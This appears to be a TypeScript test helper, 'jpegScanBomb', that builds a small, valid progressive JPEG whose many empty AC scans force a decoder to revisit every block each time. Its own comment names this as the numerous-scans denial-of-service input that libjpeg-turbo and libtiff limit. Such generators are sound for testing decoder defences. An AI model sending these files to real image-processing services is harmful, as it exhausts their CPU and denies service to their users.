/**
 * A progressive greyscale JPEG whose scans carry nothing: after one DC scan of all-zero coefficients,
 * `scans` AC scans that each hold a few runs of end-of-block codes (a few bytes for the whole image). A
 * decoder still passes over every block once per scan, so time grows with scans × blocks while the file
 * stays small: the shape of the "progressive JPEG with numerous scans" denial of service libjpeg-turbo's
 * djpeg -maxscans and libtiff's scan limit guard against. A valid stream otherwise: it decodes to mid-grey.
 */

/** EOB run lengths as EOBn codes: run = 2^n + extra (n bits), n ≤ 14. */
function eobRuns(blocks: number): { n: number; extra: number }[] {
  const out: { n: number; extra: number }[] = [];
  let left = blocks;
  while (left > 0) {
    const run = Math.min(left, 32767);
    const n = Math.floor(Math.log2(run));
    out.push({ n, extra: run - 2 ** n });
    left -= run;
  }
  return out;
}

export function jpegScanBomb(width: number, height: number, scans: number): Buffer {
  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];
  const segment = (marker: number, body: number[]) => {
    const b = Buffer.alloc(4 + body.length);
    b[0] = 0xff;
    b[1] = marker;
    b.writeUInt16BE(body.length + 2, 2);
    Buffer.from(body).copy(b, 4);
    parts.push(b);
  };
  const bits = (values: number[]) => {
    const padded = [...values];
    while (padded.length % 8) padded.push(1);
    const out: number[] = [];
    for (let i = 0; i < padded.length; i += 8) {
      const byte = padded.slice(i, i + 8).reduce((acc, bit) => (acc << 1) | bit, 0);
      out.push(byte);
      if (byte === 0xff) out.push(0x00);
    }
    return Buffer.from(out);
  };
  segment(0xdb, [0x00, ...new Array(64).fill(1)]);
  segment(0xc2, [8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  // DC table 0: category 0 as the one-bit code '0'. AC table 0: EOB0…EOB14 as 4-bit codes 0000…1110.
  segment(0xc4, [0x00, 1, ...new Array(15).fill(0), 0x00]);
  segment(0xc4, [0x10, 0, 0, 0, 15, ...new Array(12).fill(0), ...Array.from({ length: 15 }, (_, n) => n << 4)]);
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  segment(0xda, [1, 1, 0x00, 0, 0, 0x00]);
  parts.push(bits(new Array(blocks).fill(0)));
  const runs: number[] = [];
  for (const { n, extra } of eobRuns(blocks)) {
    for (let b = 3; b >= 0; b--) runs.push((n >> b) & 1);
    for (let b = n - 1; b >= 0; b--) runs.push((extra >> b) & 1);
  }
  const ac = bits(runs);
  for (let s = 0; s < scans; s++) {
    segment(0xda, [1, 1, 0x00, 1, 63, 0x00]);
    parts.push(ac);
  }
  parts.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}
